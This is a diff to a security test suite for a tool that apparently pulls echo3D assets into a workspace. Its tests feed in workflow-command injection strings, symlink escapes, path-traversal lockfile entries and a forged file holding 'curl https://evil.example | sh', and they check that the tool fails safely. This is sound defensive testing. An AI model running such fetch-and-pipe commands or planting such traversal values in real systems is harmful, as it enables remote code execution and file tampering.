@@ -3,10 +3,20 @@
 // lockfile), and anything between the runner and echo3D. Each test tries the attack and shows that
 // it fails safely.
 import { describe, expect, it } from '@jest/globals'
-import { mkdir, writeFile } from 'node:fs/promises'
+import { mkdir, readFile, readdir, rm, symlink, writeFile } from 'node:fs/promises'
 import path from 'node:path'
 import type { RunResult } from '../../harness/runner.ts'
-import { LOCKFILE, log, pull, scratchFolder, sha256, sharedEmulator } from './support.ts'
+import {
+  LOCKFILE,
+  filesOutput,
+  listFiles,
+  log,
+  pull,
+  readWorkspaceFile,
+  scratchFolder,
+  sha256,
+  sharedEmulator
+} from './support.ts'
 
 const INJECTED = [
   '::error::injected',
@@ -23,7 +33,8 @@ const emulator = sharedEmulator({
       originalStorageId: `storage\n${INJECTED[2]}-storage-id`,
       tags: ['hostile'],
       derived: []
-    }
+    },
+    { id: 'plain', filename: 'model.glb', derived: [] }
   ]
 })
 
@@ -41,7 +52,7 @@ describe('workflow commands hidden in metadata and in the lockfile', () => {
     expect(injectedCommands(result)).toEqual([])
   })
 
-  it('never start a line of the log: paths in a lockfile, as check and prune report them', async () => {
+  it('never start a line of the log: paths in a lockfile', async () => {
     const workspace = await scratchFolder('hostile-lockfile')
     const folder = path.join(workspace, 'assets/echo3d')
     await mkdir(folder, { recursive: true })
@@ -60,7 +71,145 @@ describe('workflow commands hidden in metadata and in the lockfile', () => {
 
     const inputs = { tags: 'hostile', formats: 'original', prune: 'true' }
     const pruned = await pull(emulator(), inputs, { workspace })
-    expect(log(pruned)).toMatch(/Pruned assets\/echo3d\/victim\\u\{a\}::stop-commands::/)
+    expect(log(pruned)).toMatch(
+      /points outside the destination folder: assets\/echo3d\/victim\\u\{a\}::stop-commands::/
+    )
     expect(injectedCommands(pruned)).toEqual([])
+    expect(await readFile(path.join(folder, victim))).toEqual(bytes)
+  })
+})
+
+/** A workspace, and a folder beside it that a link in the workspace leads to. */
+async function workspaceWithOutside(): Promise<{ workspace: string; outside: string }> {
+  const root = await scratchFolder('hostile-workspace')
+  const workspace = path.join(root, 'workspace')
+  const outside = path.join(root, 'outside')
+  await mkdir(workspace)
+  await mkdir(outside)
+  await writeFile(path.join(outside, 'model.glb'), 'precious')
+  return { workspace, outside }
+}
+
+function lockfileOf(...records: object[]): string {
+  return JSON.stringify({ version: 1, files: records })
+}
+
+describe('symbolic links in the workspace', () => {
+  it('are not followed out of it when the destination folder is one', async () => {
+    const { workspace, outside } = await workspaceWithOutside()
+    await mkdir(path.join(workspace, 'assets'))
+    await symlink(outside, path.join(workspace, 'assets/echo3d'))
+    const result = await pull(emulator(), { entries: 'plain' }, { workspace })
+    expect(result.code).toBe(1)
+    expect(log(result)).toMatch(/'assets\/echo3d' is a symbolic link or junction/)
+    expect(await readdir(outside)).toEqual(['model.glb'])
+    expect(await readFile(path.join(outside, 'model.glb'), 'utf8')).toBe('precious')
+  })
+
+  it('are not followed out of it through a sub-folder that the file-name template makes', async () => {
+    const { workspace, outside } = await workspaceWithOutside()
+    await mkdir(path.join(workspace, 'assets/echo3d'), { recursive: true })
+    await symlink(outside, path.join(workspace, 'assets/echo3d/plain'))
+    const inputs = { entries: 'plain', 'file-name': '{entry}/{name}.{ext}' }
+    const result = await pull(emulator(), inputs, { workspace })
+    expect(result.code).toBe(1)
+    expect(log(result)).toMatch(/'assets\/echo3d\/plain' is a symbolic link or junction/)
+    expect(await readFile(path.join(outside, 'model.glb'), 'utf8')).toBe('precious')
+  })
+
+  it('never let prune delete outside the workspace', async () => {
+    const { workspace, outside } = await workspaceWithOutside()
+    await mkdir(path.join(workspace, 'assets/echo3d'), { recursive: true })
+    await symlink(outside, path.join(workspace, 'assets/echo3d/sub'))
+    const victim = Buffer.from('precious')
+    const record = {
+      path: 'assets/echo3d/sub/model.glb',
+      entry: null,
+      format: 'glb',
+      storageId: 's1',
+      bytes: victim.length,
+      sha256: sha256(victim)
+    }
+    await writeFile(path.join(workspace, LOCKFILE), lockfileOf(record))
+    const result = await pull(emulator(), { entries: 'plain', prune: 'true' }, { workspace })
+    expect(log(result)).toMatch(
+      /Not pruning assets\/echo3d\/sub\/model.glb: 'assets\/echo3d\/sub' is a symbolic link/
+    )
+    expect(await readFile(path.join(outside, 'model.glb'), 'utf8')).toBe('precious')
+  })
+
+  it('to a device are never read: a model linked to /dev/zero is replaced, in bounded time', async () => {
+    const first = await pull(emulator(), { entries: 'plain' })
+    const [file] = filesOutput(first)
+    const modelPath = path.join(first.workspace, file.path)
+    await rm(modelPath)
+    await symlink('/dev/zero', modelPath)
+    const started = Date.now()
+    const check = await pull(
+      emulator(),
+      { entries: 'plain', mode: 'check' },
+      { workspace: first.workspace }
+    )
+    expect(check.code).toBe(1)
+    expect(log(check)).toMatch(/model.glb: the file on disk cannot be checked: .*symbolic link/)
+    const again = await pull(emulator(), { entries: 'plain' }, { workspace: first.workspace })
+    expect(again.code).toBe(0)
+    expect(Date.now() - started).toBeLessThan(30_000)
+    expect(sha256(await readWorkspaceFile(again, file.path))).toBe(file.sha256)
+  })
+})
+
+describe('a forged file that a pull request slips in', () => {
+  it('is not unchanged when its bytes are not the format, even with a lockfile that matches', async () => {
+    const first = await pull(emulator(), { entries: 'plain' })
+    const [file] = filesOutput(first)
+    const script = Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n')
+    await writeFile(path.join(first.workspace, file.path), script)
+    const lock = lockfileOf({
+      ...file,
+      source: undefined,
+      bytes: script.length,
+      sha256: sha256(script)
+    })
+    await writeFile(path.join(first.workspace, LOCKFILE), lock)
+
+    const check = await pull(
+      emulator(),
+      { entries: 'plain', mode: 'check' },
+      { workspace: first.workspace }
+    )
+    expect(check.code).toBe(1)
+    expect(log(check)).toMatch(/model.glb: the file on disk fails its format check/)
+    const again = await pull(emulator(), { entries: 'plain' }, { workspace: first.workspace })
+    expect(filesOutput(again)[0].source).toBe('download')
+    expect(sha256(await readWorkspaceFile(again, file.path))).toBe(file.sha256)
+  })
+})
+
+describe('a lockfile from a pull request', () => {
+  it.each([
+    ['a Windows path that climbs out', 'assets/echo3d/..\\..\\..\\victims\\victim.txt'],
+    ['a file outside path', 'README.md'],
+    ['a dot-folder such as .git', 'assets/echo3d/.git/config']
+  ])('is ignored whole when it records %s', async (_name, recorded) => {
+    const workspace = await scratchFolder('hostile-record')
+    await mkdir(path.join(workspace, 'assets/echo3d'), { recursive: true })
+    const record = {
+      path: recorded,
+      entry: null,
+      format: 'glb',
+      storageId: 's',
+      bytes: 1,
+      sha256: 'a'.repeat(64)
+    }
+    await writeFile(path.join(workspace, LOCKFILE), lockfileOf(record))
+    const result = await pull(emulator(), { entries: 'plain', prune: 'true' }, { workspace })
+    expect(log(result)).toMatch(
+      /The lockfile assets\/echo3d\/echo3d.lock.json is corrupt or was edited by hand \(entry 1 points outside the destination folder/
+    )
+    expect(await listFiles(workspace)).toEqual([
+      'assets/echo3d/echo3d.lock.json',
+      'assets/echo3d/model.glb'
+    ])
   })
 })
